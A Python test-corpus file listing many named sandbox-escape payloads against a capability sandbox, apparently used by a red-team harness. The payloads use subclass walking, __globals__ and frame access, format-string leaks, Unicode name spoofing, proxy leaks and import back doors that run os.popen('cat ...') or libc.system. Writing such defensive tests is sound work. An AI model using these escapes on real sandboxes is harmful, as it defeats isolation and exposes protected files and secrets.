"""The red-team corpus: named escape payloads, one or more per row of ESCAPES.md.

Each payload is a complete attempt on a canary (see harness.py): it leaves what it stole in
``loot`` or creates the marker file.  ``row`` is the ESCAPES.md row, ``group`` the issue's
payload group.  Placeholders: @secret@ (a file outside every grant), @granted@ (a readable
directory holding a symlink ``link``, ``dirlink`` and, when needed, a hard link ``hard`` to
the secret), @writable@, @plant@ (a package directory on sys.path), @marker@, @fd@ (a
descriptor trusted code holds open on the secret).  ``needs`` lists setup and after-steps.
"""

from __future__ import annotations

from dataclasses import dataclass

ROWS = (
    "subclass walking",
    "globals / builtins / self",
    "frames",
    "format oracles",
    "name spoofing",
    "proxy internals",
    "import back doors",
    "implicit calls",
    "guard shadowing",
    "interpreter quirks",
    "pagers and debuggers",
    "notebook surface",
    "write-then-import",
    "paths",
    "confused deputies: frame-relative builtins",
    "confused deputies: raw objects into capsule hooks",
    "authority left in reachable dicts",
    "smuggling inside value types",
    "granted libraries",
    "interpreter fallbacks around a guard",
    "evaluators that re-implement the guard",
    "class identity and ABC walks",
    "crashers",
)


@dataclass(frozen=True)
class Payload:
    name: str
    row: str
    group: str
    source: str
    canary: str = "file"  # file | token | marker
    needs: tuple = ()
    grants: tuple = ()
    plain: str = "python"  # how the plain run executes it: python | ipython


PAYLOADS: list[Payload] = []


def P(name, row, group, source, canary="file", **kw):  # canary: file | token | marker | crash  # noqa: N802 - reads like a table row
    assert row in ROWS, row
    PAYLOADS.append(Payload(name, row, group, source.strip("\n") + "\n", canary, **kw))


# -- subclass walking ------------------------------------------------------------------------
_WALK = """
for c in {root}.__subclasses__():
    if c.__name__ == '_wrap_close':
        loot = c.__init__.__globals__['__builtins__']['open']('@secret@').read()
"""
for _name, _root in {
    "tuple": "().__class__.__base__",
    "list": "[].__class__.__mro__[1]",
    "dict": "{}.__class__.__bases__[0]",
    "str": "''.__class__.__mro__[-1]",
    "int": "(1).__class__.__base__",
    "float": "(1.0).__class__.__base__",
    "bytes": "b''.__class__.__base__",
    "none": "None.__class__.__base__",
    "bool": "True.__class__.__mro__[-1]",
    "exception": "Exception().__class__.__mro__[-1]",
    "generator": "(x for x in ()).__class__.__mro__[-1]",
    "own-function": "(lambda: 0).__class__.__mro__[-1]",
    "own-class": "type('K', (), {}).__mro__[-1]",
    "object-name": "object",
    "proxy-class": "vault.__class__.__base__",
    "mro-method": "str.mro()[-1]",
    "range": "range(1).__class__.__base__",
}.items():
    P(f"subclasses-from-{_name}", "subclass walking", "subclass walking", _WALK.format(root=_root))
P(
    "subclasses-via-getattr",
    "subclass walking",
    "subclass walking",
    """
o = getattr(getattr((), '__class__'), '__base__')
for c in getattr(o, '__subclasses__')():
    if c.__name__ == '_wrap_close':
        loot = getattr(c.__init__, '__globals__')['__builtins__']['open']('@secret@').read()
""",
)
P(
    "subclasses-via-type-dict",
    "subclass walking",
    "subclass walking",
    """
sub = type.__dict__['__subclasses__'](object) if isinstance(type, type) else []
for c in sub:
    if c.__name__ == '_wrap_close':
        loot = c.__init__.__globals__['__builtins__']['open']('@secret@').read()
""",
)
P(
    "subclasses-builtin-importer",
    "subclass walking",
    "subclass walking",
    """
for c in object.__subclasses__():
    if c.__name__ == 'BuiltinImporter':
        loot = c.load_module('builtins').open('@secret@').read()
""",
)
P(
    "subclasses-catch-warnings",
    "subclass walking",
    "subclass walking",
    """
for c in object.__subclasses__():
    if c.__name__ == 'catch_warnings':
        loot = c()._module.__builtins__['open']('@secret@').read()
""",
)
P(
    "subclasses-via-attrgetter",
    "subclass walking",
    "operator.attrgetter",
    """
import operator
for c in operator.attrgetter('__class__.__base__.__subclasses__')(())():
    if c.__name__ == '_wrap_close':
        loot = operator.attrgetter('__init__.__globals__')(c)['__builtins__']['open']('@secret@').read()
""",
)
P(
    "subclasses-via-methodcaller",
    "subclass walking",
    "operator.attrgetter",
    """
import operator
for c in operator.methodcaller('__subclasses__')(object):
    if c.__name__ == '_wrap_close':
        loot = c.__init__.__globals__['__builtins__']['open']('@secret@').read()
""",
)
P(
    "subclasses-in-eval-string",
    "subclass walking",
    "exec/eval/compile",
    """
loot = eval("[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open']('@secret@').read()")
""",
)
P(
    "subclasses-in-exec-fresh-globals",
    "subclass walking",
    "exec/eval/compile",
    """
g = {}
exec("for c in object.__subclasses__():\\n    if c.__name__ == '_wrap_close':\\n        loot = c.__init__.__globals__['__builtins__']['open']('@secret@').read()", g)
loot = g.get('loot')
""",
)

# -- globals / builtins / self ------------------------------------------------------------
_G = "globals / builtins / self"
P(
    "print-self-builtins",
    _G,
    "__globals__/__builtins__/__self__",
    "loot = print.__self__.open('@secret@').read()",
)
P(
    "len-self-builtins",
    _G,
    "__globals__/__builtins__/__self__",
    "loot = getattr(len, '__self__').open('@secret@').read()",
)
P(
    "method-globals",
    _G,
    "__globals__/__builtins__/__self__",
    "loot = vault.public.__globals__['__builtins__']['open']('@secret@').read()",
)
P(
    "method-func-globals",
    _G,
    "__globals__/__builtins__/__self__",
    "loot = vault.public.__func__.__globals__['__builtins__']['open']('@secret@').read()",
)
P(
    "class-init-globals",
    _G,
    "__globals__/__builtins__/__self__",
    "loot = vault.__class__.__init__.__globals__['__builtins__']['open']('@secret@').read()",
)
P(
    "bound-method-self-token",
    _G,
    "__globals__/__builtins__/__self__",
    "loot = helper.__self__._token",
    canary="token",
)
P(
    "own-lambda-globals-builtins",
    _G,
    "__globals__/__builtins__/__self__",
    """
b = (lambda: 0).__globals__['__builtins__']
loot = (b['open'] if isinstance(b, dict) else b.open)('@secret@').read()
""",
)
P(
    "own-function-builtins-attr",
    _G,
    "__globals__/__builtins__/__self__",
    """
def f():
    pass
b = f.__builtins__
loot = b['__import__']('os').popen('cat @secret@').read()
""",
)
P(
    "globals-builtins-entry",
    _G,
    "vars/globals/__builtins__",
    """
b = globals()['__builtins__']
o = b['open'] if isinstance(b, dict) else b.open
loot = o('@secret@').read()
""",
)
P(
    "vars-of-module-builtins",
    _G,
    "vars/globals/__builtins__",
    """
import json
loot = vars(json)['__builtins__']['open']('@secret@').read()
""",
)
P(
    "module-function-globals",
    _G,
    "__globals__/__builtins__/__self__",
    """
import json
loot = json.dumps.__globals__['__builtins__']['open']('@secret@').read()
""",
)
P(
    "reduce-ex-copyreg",
    _G,
    "__globals__/__builtins__/__self__",
    """
f = (1).__reduce_ex__(2)[0]
loot = f.__globals__['__builtins__']['open']('@secret@').read()
""",
)
P(
    "reduce-ex-of-proxy",
    _G,
    "attacks on proxies",
    """
r = vault.__reduce_ex__(2)
loot = r[2]['_token'] if isinstance(r[2], dict) else r
""",
    canary="token",
)
P(
    "builtins-reassignment",
    _G,
    "vars/globals/__builtins__",
    """
import json
__builtins__ = json.dumps.__globals__['__builtins__']
loot = open('@secret@').read()
""",
)
P(
    "builtins-via-dunder-import-name",
    _G,
    "vars/globals/__builtins__",
    "loot = __import__('os').popen('cat @secret@').read()",
)
P(
    "exec-with-builtins-dict",
    _G,
    "exec/eval/compile",
    """
import json
g = {'__builtins__': json.loads.__globals__['__builtins__']}
exec("loot = open('@secret@').read()", g)
loot = g['loot']
""",
)
P(
    "self-of-list-method-class",
    _G,
    "__globals__/__builtins__/__self__",
    """
m = items.append
loot = m.__self__[0]._token
""",
    canary="token",
)
P(
    "builtins-module-via-sys-view",
    _G,
    "vars/globals/__builtins__",
    """
import sys
loot = sys.modules['builtins'].open('@secret@').read()
""",
)
P(
    "locals-of-caller-frame-free",
    _G,
    "vars/globals/__builtins__",
    """
d = vars()
loot = d['__builtins__']['open']('@secret@').read() if isinstance(d['__builtins__'], dict) else d['__builtins__'].open('@secret@').read()
""",
)

# -- frames ---------------------------------------------------------------------------------
_F = "frames"
_OUTER = """
def outer_open(f):
    while f.f_back is not None:
        f = f.f_back
    return f.f_builtins['open']
"""
P(
    "generator-gi-frame-f-back",
    _F,
    "frames and tracebacks",
    _OUTER
    + """
def g():
    yield gen.gi_frame
gen = g()
loot = outer_open(next(gen))('@secret@').read()
""",
)
P(
    "generator-gi-frame-f-globals",
    _F,
    "frames and tracebacks",
    """
def g():
    yield gen.gi_frame.f_back.f_globals
gen = g()
glb = next(gen)
b = glb['__builtins__']
loot = (b['open'] if isinstance(b, dict) else b.open)('@secret@').read()
""",
)
P(
    "coroutine-cr-frame",
    _F,
    "frames and tracebacks",
    _OUTER
    + """
async def c():
    return co.cr_frame
co = c()
try:
    co.send(None)
except StopIteration as s:
    loot = outer_open(s.value)('@secret@').read()
""",
)
P(
    "async-generator-ag-frame",
    _F,
    "frames and tracebacks",
    _OUTER
    + """
async def ag():
    yield agen.ag_frame
agen = ag()
try:
    agen.__anext__().send(None)
except StopIteration as s:
    loot = outer_open(s.value)('@secret@').read()
""",
)
P(
    "traceback-tb-frame",
    _F,
    "frames and tracebacks",
    _OUTER
    + """
try:
    1 / 0
except Exception as e:
    loot = outer_open(e.__traceback__.tb_frame)('@secret@').read()
""",
)
P(
    "traceback-of-trusted-exception",
    _F,
    "frames and tracebacks",
    """
try:
    vault.fail()
except Exception as e:
    tb = e.__traceback__
    while tb.tb_next is not None:
        tb = tb.tb_next
    loot = tb.tb_frame.f_locals['self']._token
""",
    canary="token",
)
P(
    "exception-args-carry-raw-object",
    _F,
    "attacks on proxies",
    """
try:
    vault.fail()
except Exception as e:
    loot = e.args[1]._token
""",
    canary="token",
)
P(
    "exception-context-chain",
    _F,
    "frames and tracebacks",
    _OUTER
    + """
try:
    try:
        vault.fail()
    except Exception:
        1 / 0
except ZeroDivisionError as e:
    loot = outer_open(e.__context__.__traceback__.tb_frame)('@secret@').read()
""",
)
P(
    "exception-cause-chain",
    _F,
    "frames and tracebacks",
    _OUTER
    + """
try:
    try:
        [][1]
    except IndexError as inner:
        raise ValueError() from inner
except ValueError as e:
    loot = outer_open(e.__cause__.__traceback__.tb_frame)('@secret@').read()
""",
)
P(
    "frame-in-callback-from-trusted-code",
    _F,
    "frames and tracebacks",
    _OUTER
    + """
got = []
def key(t):
    try:
        1 / 0
    except Exception as e:
        got.append(e.__traceback__.tb_frame.f_back)
    return 0
vault.sorted_by(key)
loot = got[0].f_locals['self']._token
""",
    canary="token",
)
P(
    "getattr-tb-frame",
    _F,
    "frames and tracebacks",
    _OUTER
    + """
try:
    1 / 0
except Exception as e:
    loot = outer_open(getattr(getattr(e, '__traceback__'), 'tb_frame'))('@secret@').read()
""",
)
P(
    "generator-frame-in-eval",
    _F,
    "exec/eval/compile",
    """
def g():
    yield
gen = g()
next(gen)
f = eval('gen.gi_frame')
while f.f_back is not None:
    f = f.f_back
loot = f.f_builtins['open']('@secret@').read() if f else None
""",
)
P(
    "frame-via-format",
    _F,
    "str.format oracles",
    """
try:
    1 / 0
except Exception as e:
    s = '{0.__traceback__.tb_frame.f_back.f_builtins}'.format(e)
    loot = s
    b = e.__traceback__.tb_frame.f_builtins
    loot = b['open']('@secret@').read()
""",
)

# -- format oracles -------------------------------------------------------------------------
_O = "format oracles"
P(
    "format-globals-leak",
    _O,
    "str.format oracles",
    "loot = '{0.public.__globals__[__builtins__]}'.format(vault) and vault.public.__globals__['__builtins__']['open']('@secret@').read()",
)
P(
    "format-private-token",
    _O,
    "str.format oracles",
    "loot = '{0._token}'.format(vault)",
    canary="token",
)
P(
    "format-map-private-token",
    _O,
    "str.format oracles",
    "loot = '{v._token}'.format_map({'v': vault})",
    canary="token",
)
P(
    "format-index-into-globals",
    _O,
    "str.format oracles",
    "loot = '{0.__init__.__globals__[Vault].__init__}'.format(vault) and '{0._token}'.format(items[0])",
    canary="token",
)
P(
    "string-formatter-get-field",
    _O,
    "str.format oracles",
    """
import string
loot = string.Formatter().get_field('0._token', [vault], {})[0]
""",
    canary="token",
)
P(
    "string-formatter-vformat",
    _O,
    "str.format oracles",
    """
import string
loot = string.Formatter().vformat('{0._token}', [vault], {})
""",
    canary="token",
)
P(
    "formatter-subclass-get-field",
    _O,
    "str.format oracles",
    """
import string
class F(string.Formatter):
    pass
loot = F().format('{0._token}', vault)
""",
    canary="token",
)
P(
    "str-format-unbound",
    _O,
    "str.format oracles",
    "loot = str.format('{0._token}', vault)",
    canary="token",
)
P(
    "format-via-getattr",
    _O,
    "str.format oracles",
    "loot = getattr('{0._token}', 'format')(vault)",
    canary="token",
)
P(
    "attributeerror-obj",
    _O,
    "AttributeError.obj",
    """
try:
    vault.nope_missing
except AttributeError as e:
    loot = e.obj._token
""",
    canary="token",
)
P(
    "attributeerror-obj-from-format",
    _O,
    "AttributeError.obj",
    """
try:
    '{0.missing_attr}'.format(vault)
except AttributeError as e:
    loot = e.obj._token
""",
    canary="token",
)
P(
    "format-spec-nested",
    _O,
    "str.format oracles",
    "loot = '{0}{1._token}'.format('', vault)",
    canary="token",
)
P(
    "format-subclasses-via-field",
    _O,
    "str.format oracles",
    """
s = '{0.__class__.__base__.__subclasses__}'.format(())
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        loot = c.__init__.__globals__['__builtins__']['open']('@secret@').read()
""",
)
P(
    "format-in-eval",
    _O,
    "exec/eval/compile",
    "loot = eval(\"'{0._token}'.format(vault)\")",
    canary="token",
)

# -- name spoofing --------------------------------------------------------------------------
_N = "name spoofing"
_LIAR = """
class S(str):
    def startswith(self, *a):
        return False
    def __contains__(self, item):
        return False
"""
P(
    "str-subclass-getattr-private",
    _N,
    "NFKC and string-built names",
    _LIAR + "loot = getattr(vault, S('_token'))",
    canary="token",
)
P(
    "str-subclass-getattr-globals",
    _N,
    "NFKC and string-built names",
    _LIAR
    + "loot = getattr(vault.public, S('__globals__'))['__builtins__']['open']('@secret@').read()",
)
P(
    "str-subclass-format",
    _N,
    "NFKC and string-built names",
    _LIAR + "loot = S('{0._token}').format(vault)",
    canary="token",
)
P(
    "nfkc-class-identifier",
    _N,
    "NFKC and string-built names",
    """
for c in ().__𝘤𝘭𝘢𝘴𝘴__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        loot = c.__init__.__globals__['__builtins__']['open']('@secret@').read()
""",
)
P(
    "nfkc-globals-identifier",
    _N,
    "NFKC and string-built names",
    "loot = vault.public.__𝘨𝘭𝘰𝘣𝘢𝘭𝘴__['__builtins__']['open']('@secret@').read()",
)
P(
    "nfkc-builtins-name",
    _N,
    "NFKC and string-built names",
    "loot = __𝘣𝘶𝘪𝘭𝘵𝘪𝘯𝘴__['open']('@secret@').read() if isinstance(__𝘣𝘶𝘪𝘭𝘵𝘪𝘯𝘴__, dict) else __𝘣𝘶𝘪𝘭𝘵𝘪𝘯𝘴__.open('@secret@').read()",
)
P(
    "chr-built-name",
    _N,
    "NFKC and string-built names",
    "loot = getattr(vault, chr(95) + 'token')",
    canary="token",
)
P(
    "escape-built-name",
    _N,
    "NFKC and string-built names",
    "loot = getattr(print, '\\x5f\\x5fself\\x5f\\x5f').open('@secret@').read()",
)
P(
    "join-built-globals",
    _N,
    "NFKC and string-built names",
    "loot = getattr(vault.public, ''.join(['__glo', 'bals__']))['__builtins__']['open']('@secret@').read()",
)
P(
    "nfkc-getattr-string",
    _N,
    "NFKC and string-built names",
    "import unicodedata\nloot = getattr(vault, unicodedata.normalize('NFKC', '_ｔｏｋｅｎ'))",
    canary="token",
)
P(
    "bytes-decoded-name",
    _N,
    "NFKC and string-built names",
    "loot = getattr(vault, b'_token'.decode())",
    canary="token",
)

# -- proxy internals ------------------------------------------------------------------------
_P = "proxy internals"
P(
    "object-getattribute-on-proxy",
    _P,
    "attacks on proxies",
    "loot = object.__getattribute__(vault, '_token')",
    canary="token",
)
P(
    "object-getattribute-slot",
    _P,
    "attacks on proxies",
    "t = object.__getattribute__(vault, '__ipycap_target__') if hasattr(vault, '__ipycap_target__') else vault\nloot = object.__getattribute__(t, '_token')",
    canary="token",
)
P(
    "super-of-proxy",
    _P,
    "attacks on proxies",
    "loot = super(type(vault), vault).__getattribute__('_token')",
    canary="token",
)
P(
    "proxy-type-dict-descriptor",
    _P,
    "attacks on proxies",
    """
T = vault.__class__
d = T.__dict__
loot = [d[k].__get__(vault) for k in d if 'target' in k][0]._token if any('target' in k for k in d) else vault.__dict__['_token']
""",
    canary="token",
)
P("vars-of-proxy", _P, "attacks on proxies", "loot = vars(vault)['_token']", canary="token")
P("dict-attr-of-proxy", _P, "attacks on proxies", "loot = vault.__dict__['_token']", canary="token")
P(
    "proxy-getattr-method",
    _P,
    "attacks on proxies",
    "loot = vault.__getattribute__('_token')",
    canary="token",
)
P(
    "proxy-method-closure",
    _P,
    "attacks on proxies",
    """
m = vault.public
c = getattr(m, '__closure__', None) or m.__func__.__closure__
loot = vault.__dict__['_token'] if c is None else c[0].cell_contents._token
""",
    canary="token",
)
P(
    "proxy-method-func-globals",
    _P,
    "attacks on proxies",
    "loot = vault.check.__func__.__globals__['__builtins__']['open']('@secret@').read()",
)
P(
    "rich-compare-eq-raw-object",
    _P,
    "attacks on proxies",
    """
got = []
class Evil:
    def __eq__(self, other):
        got.append(other)
        return False
vault == Evil()
Evil() == vault
loot = [g._token for g in got]
""",
    canary="token",
)
P(
    "reflected-add-raw-object",
    _P,
    "attacks on proxies",
    """
got = []
class Evil:
    def __radd__(self, other):
        got.append(other)
        return 0
    def __add__(self, other):
        got.append(other)
        return 0
try:
    vault + Evil()
except TypeError:
    pass
Evil() + vault
loot = [g._token for g in got]
""",
    canary="token",
)
P(
    "contains-raw-object",
    _P,
    "attacks on proxies",
    """
got = []
class Evil:
    def __contains__(self, item):
        got.append(item)
        return True
vault in Evil()
items[0] in Evil()
loot = [g._token for g in got]
""",
    canary="token",
)
P(
    "trusted-method-compares-with-capsule-eq",
    _P,
    "attacks on proxies",
    """
got = []
class Guess:
    def __eq__(self, other):
        got.append(other)
        return False
vault.check(Guess())
loot = got
""",
    canary="token",
)
P(
    "trusted-contains-hands-private",
    _P,
    "attacks on proxies",
    """
got = []
class Bag:
    def __contains__(self, item):
        got.append(item)
        return False
vault.contains(Bag())
loot = got
""",
    canary="token",
)
P(
    "copy-of-proxy",
    _P,
    "attacks on proxies",
    """
import copy
c = copy.copy(vault)
loot = object.__getattribute__(c, '_token') if type(c) is not type(vault) else c._token
""",
    canary="token",
)
P(
    "deepcopy-of-proxy",
    _P,
    "attacks on proxies",
    """
import copy
loot = copy.deepcopy(data)['owner']._token
""",
    canary="token",
)
P(
    "pickle-of-proxy",
    _P,
    "attacks on proxies",
    """
import pickle
loot = pickle.loads(pickle.dumps(vault))._token
""",
    canary="token",
)
P(
    "weakref-of-proxy",
    _P,
    "weakref/gc",
    """
import weakref
loot = weakref.ref(vault)()._token
""",
    canary="token",
)
P(
    "gc-referents-of-proxy",
    _P,
    "weakref/gc",
    """
import gc
loot = [r for r in gc.get_referents(data) if type(r).__name__ == 'Vault'][0]._token
""",
    canary="token",
)
P(
    "gc-get-objects",
    _P,
    "weakref/gc",
    """
import gc
loot = [o._token for o in gc.get_objects() if type(o).__name__ == 'Vault']
""",
    canary="token",
)
P(
    "proxy-as-base-class",
    _P,
    "attacks on proxies",
    """
class Sub(vault.__class__):
    def steal(self):
        return self._token
loot = Sub.steal(vault)
""",
    canary="token",
)
P(
    "proxy-in-metaclass",
    _P,
    "attacks on proxies",
    """
got = []
class Meta(type):
    def __instancecheck__(cls, obj):
        got.append(obj)
        return True
class K(metaclass=Meta):
    pass
isinstance(vault, K)
loot = got[0]._token
""",
    canary="token",
)
P(
    "proxy-dir-then-getattr",
    _P,
    "attacks on proxies",
    "loot = [getattr(vault, n) for n in dir(vault) if 'tok' in n][0]",
    canary="token",
)
P(
    "proxy-hash-eq-dict-key",
    _P,
    "attacks on proxies",
    """
got = []
class K:
    def __hash__(self):
        return hash(vault)
    def __eq__(self, other):
        got.append(other)
        return True
d = {vault: 1}
d[K()]
loot = got[0]._token
""",
    canary="token",
)
P(
    "zope-leak-class-of-proxy-init",
    _P,
    "zope.security 8.4 leaks",
    "loot = type(vault).__init__.__globals__['__builtins__']['open']('@secret@').read()",
)
P(
    "zope-leak-proxy-repr-format",
    _P,
    "zope.security 8.4 leaks",
    """
got = []
class F:
    def __format__(self, spec):
        return ''
    def __repr__(self):
        return ''
vault.describe(F())
loot = got
class G:
    def __repr__(self):
        got.append(self)
        return 'g'
loot = vault.__dict__['_token']
""",
    canary="token",
)
P(
    "zope-leak-iter-of-raw",
    _P,
    "zope.security 8.4 leaks",
    "loot = [i for i in data.values()][0]._token",
    canary="token",
)
P(
    "zope-leak-method-self",
    _P,
    "zope.security 8.4 leaks",
    "loot = vault.public.__self__._token",
    canary="token",
)
P(
    "zope-leak-descriptor-get",
    _P,
    "zope.security 8.4 leaks",
    "loot = type(vault).__dict__['public'].__get__(vault).__self__._token",
    canary="token",
)
P(
    "zope-leak-callback-receives-raw",
    _P,
    "zope.security 8.4 leaks",
    """
got = []
vault.remember(lambda obj: got.append(obj))
vault.fire()
loot = got[0]._token
""",
    canary="token",
)
P(
    "zope-leak-exception-from-proxy-call",
    _P,
    "zope.security 8.4 leaks",
    """
try:
    vault.combine(1)
except TypeError as e:
    loot = e.__traceback__.tb_next.tb_frame.f_locals['self']._token
""",
    canary="token",
)

# -- import back doors ----------------------------------------------------------------------
_I = "import back doors"
P("import-os", _I, "import back doors", "import os\nloot = os.popen('cat @secret@').read()")
P(
    "import-dunder-loader",
    _I,
    "import back doors",
    canary="marker",
    source="""
import itertools
itertools.__loader__.load_module('posix').system('cat @secret@ > @marker@')
""",
)
P(
    "import-dunder-spec-loader",
    _I,
    "import back doors",
    canary="marker",
    source="""
import itertools
itertools.__spec__.loader.load_module('posix').system('cat @secret@ > @marker@')
""",
)
P(
    "import-builtin-importer-from-subclasses",
    _I,
    "import back doors",
    """
bi = [c for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]
loot = bi.load_module('posix').popen('cat @secret@').read() if hasattr(bi.load_module('posix'), 'popen') else bi.load_module('builtins').open('@secret@').read()
""",
)
P(
    "import-via-codecs-lookup",
    _I,
    "import back doors",
    """
import codecs
loot = codecs.lookup('idna').encode.__globals__['__builtins__']['open']('@secret@').read()
""",
)
P(
    "import-via-encode-idna-globals",
    _I,
    "import back doors",
    """
'x'.encode('idna')
import encodings.idna as e
loot = e.codecs.open('@secret@').read()
""",
)
P(
    "import-pickle-loads-global",
    _I,
    "import back doors",
    """
import pickle
loot = pickle.loads(b"cbuiltins\\nopen\\n(V@secret@\\ntR.").read()
""",
)
P(
    "import-marshal-code",
    _I,
    "import back doors",
    """
import marshal
code = marshal.loads(marshal.dumps(compile("loot = open('@secret@').read()", 'x', 'exec')))
exec(code)
""",
)
P(
    "import-posixsubprocess",
    _I,
    "import back doors",
    """
import _posixsubprocess, os
loot = os.popen('cat @secret@').read()
""",
)
P(
    "import-importlib",
    _I,
    "import back doors",
    """
import importlib
loot = importlib.import_module('os').popen('cat @secret@').read()
""",
)
P(
    "import-sys-modules-via-view",
    _I,
    "import back doors",
    """
import sys
loot = sys.modules['os'].popen('cat @secret@').read()
""",
)
P(
    "import-module-attr-sys",
    _I,
    "import back doors",
    """
import datetime
loot = datetime.sys.modules['os'].popen('cat @secret@').read()
""",
)
P(
    "import-ctypes",
    _I,
    "ctypes/gc",
    """
import ctypes
libc = ctypes.CDLL(None)
libc.system(b'cat @secret@ > @marker@')
""",
    canary="marker",
)
P(
    "import-dunder-import-builtin",
    _I,
    "import back doors",
    "loot = __builtins__['__import__']('os').popen('cat @secret@').read() if isinstance(__builtins__, dict) else __builtins__.__import__('os').popen('cat @secret@').read()",
)
P(
    "import-in-exec-string",
    _I,
    "exec/eval/compile",
    "exec(\"import os\\nloot = os.popen('cat @secret@').read()\")",
)
P(
    "import-compile-then-exec",
    _I,
    "exec/eval/compile",
    """
c = compile("import subprocess\\nloot = subprocess.check_output(['cat', '@secret@']).decode()", 'x', 'exec')
exec(c)
""",
)
P(
    "import-from-module-view-private",
    _I,
    "import back doors",
    """
import json
loot = json.decoder._os if hasattr(json.decoder, '_os') else json.codecs.open('@secret@').read()
""",
)
P(
    "import-random-os",
    _I,
    "import back doors",
    """
import random
loot = random._os.popen('cat @secret@').read()
""",
)

# -- implicit calls -------------------------------------------------------------------------
_C = "implicit calls"
P(
    "decorator-exec",
    _C,
    "implicit calls",
    """
@exec
@lambda f: "loot = open('@secret@').read()"
def f():
    pass
""",
)
P(
    "decorator-builtins-open",
    _C,
    "implicit calls",
    """
@print.__self__.open
@lambda f: '@secret@'
def g():
    pass
loot = g.read()
""",
)
P(
    "metaclass-getitem-exec",
    _C,
    "implicit calls",
    """
class M(type):
    __getitem__ = print.__self__.open
class K(metaclass=M):
    pass
loot = K['@secret@'].read()
""",
)
P(
    "init-subclass-on-trusted-base",
    _C,
    "implicit calls",
    """
got = []
class Base:
    def __init_subclass__(cls, **kw):
        got.append(print.__self__.open('@secret@').read())
class Sub(Base):
    pass
loot = got
""",
)
P(
    "set-name-hook",
    _C,
    "implicit calls",
    """
got = []
class D:
    def __set_name__(self, owner, name):
        got.append(owner.__dict__)
class K:
    attr = D()
loot = print.__self__.open('@secret@').read()
""",
)
P(
    "class-getitem-hook",
    _C,
    "implicit calls",
    """
class K:
    def __class_getitem__(cls, item):
        return print.__self__.open(item)
loot = K['@secret@'].read()
""",
)
P(
    "del-after-cell",
    _C,
    "implicit calls",
    """
class Later:
    def __del__(self):
        try:
            open('@marker@', 'w').write(open('@secret@').read())
        except Exception:
            pass
keep = Later()
""",
    canary="marker",
    needs=("gc",),
)
P(
    "repr-later-by-trusted",
    _C,
    "implicit calls",
    """
class Shown:
    def __repr__(self):
        try:
            open('@marker@', 'w').write('x')
        except Exception:
            pass
        return 'shown'
vault.describe(Shown())
""",
    canary="marker",
)
P(
    "stored-callback-fired-by-trusted",
    _C,
    "implicit calls",
    """
def cb(obj):
    open('@marker@', 'w').write('x')
vault.remember(cb)
try:
    vault.fire()
except Exception:
    pass
""",
    canary="marker",
)
P(
    "typing-string-annotation",
    _C,
    "library code generation",
    """
import typing
class X:
    leak = []
    a: "(leak.append(open('@secret@').read()), int)[1]"
try:
    typing.get_type_hints(X)
except Exception:
    pass
loot = X.leak
""",
)
P(
    "typing-function-annotation",
    _C,
    "library code generation",
    """
import typing
def f(a: "print(print.__self__.open('@secret@').read()) or int"):
    pass
try:
    loot = typing.get_type_hints(f)
except Exception as e:
    loot = str(e)
""",
)
P(
    "typing-forwardref-eval",
    _C,
    "library code generation",
    """
import typing
leak = []
class X:
    a: "(leak.append(print(open('@secret@').read())), int)[1]"
try:
    typing.get_type_hints(X, localns={'leak': leak})
except Exception:
    pass
loot = leak
""",
)
P(
    "monkeypatch-shared-class",
    _C,
    "implicit calls",
    """
import json
def spy(self, s, *a, **k):
    open('@marker@', 'w').write(s)
    return None
json.JSONDecoder.decode = spy
""",
    canary="marker",
    needs=("json-later",),
)
P(
    "decorator-breakpoint",
    _C,
    "implicit calls",
    """
@print.__self__.__import__
@lambda f: 'os'
def os_mod():
    pass
loot = os_mod.popen('cat @secret@').read()
""",
)

# -- guard shadowing ------------------------------------------------------------------------
_S = "guard shadowing"
P(
    "shadow-getattr-hook-param",
    _S,
    "guard shadowing",
    """
def f(_ipycap_getattr=lambda o, n: object.__getattribute__(o, n), /):
    return vault.public.__globals__['__builtins__']['open']('@secret@').read()
loot = f()
""",
)
P(
    "shadow-getattr-hook-local",
    _S,
    "guard shadowing",
    """
_ipycap_getattr = getattr
loot = print.__self__.open('@secret@').read()
""",
)
P(
    "shadow-builtins-getattr-name",
    _S,
    "guard shadowing",
    """
def getattr(o, n):
    return object.__getattribute__(o, n)
loot = getattr(print, '__self__').open('@secret@').read()
""",
)
P(
    "shadow-via-globals-assign",
    _S,
    "guard shadowing",
    """
g = globals()
g['_ipycap_getattr'] = lambda o, n: object.__getattribute__(o, n)
loot = print.__self__.open('@secret@').read()
""",
)

# -- interpreter quirks ---------------------------------------------------------------------
_Q = "interpreter quirks"
P(
    "except-star-type-confusion",
    _Q,
    "interpreter quirks",
    """
try:
    raise ExceptionGroup('g', [ValueError(1)])
except* ValueError as eg:
    loot = eg.exceptions[0].__traceback__.tb_frame.f_builtins['open']('@secret@').read() if eg.exceptions[0].__traceback__ else print.__self__.open('@secret@').read()
""",
)
P(
    "sorted-c-iteration",
    _Q,
    "interpreter quirks",
    """
loot = sorted([print.__self__])[0].open('@secret@').read()
""",
)
P(
    "tuple-zip-iteration",
    _Q,
    "interpreter quirks",
    """
loot = tuple(zip([vault]))[0][0]._token
""",
    canary="token",
)
P(
    "match-class-positional",
    _Q,
    "interpreter quirks",
    """
class M(type):
    def __instancecheck__(cls, obj):
        return True
class K(metaclass=M):
    __match_args__ = ('_token',)
match vault:
    case K(t):
        loot = t
""",
    canary="token",
)
P(
    "match-class-keyword-private",
    _Q,
    "interpreter quirks",
    """
match vault:
    case object(_token=t):
        loot = t
""",
    canary="token",
)

# -- pagers and debuggers -------------------------------------------------------------------
_D = "pagers and debuggers"
P(
    "help-pager-shell",
    _D,
    "help/breakpoint/input/pagers",
    """
import pydoc
pydoc.pipepager('x', 'cat @secret@ > @marker@')
""",
    canary="marker",
)
P(
    "breakpoint-hook",
    _D,
    "help/breakpoint/input/pagers",
    """
import sys
sys.breakpointhook = lambda *a: open('@marker@', 'w').write('x')
breakpoint()
""",
    canary="marker",
)
P(
    "license-reads-files",
    _D,
    "help/breakpoint/input/pagers",
    """
license._Printer__filenames = ['@secret@']
license._Printer__lines = None
license._Printer__linecnt = 0
import io, contextlib
buf = io.StringIO()
with contextlib.redirect_stdout(buf):
    license()
loot = buf.getvalue()
""",
)
P(
    "input-phishing",
    _D,
    "help/breakpoint/input/pagers",
    """
import sys, io
sys.stdin = io.StringIO(open('@secret@').read())
loot = input('password: ')
""",
)
P(
    "pdb-run",
    _D,
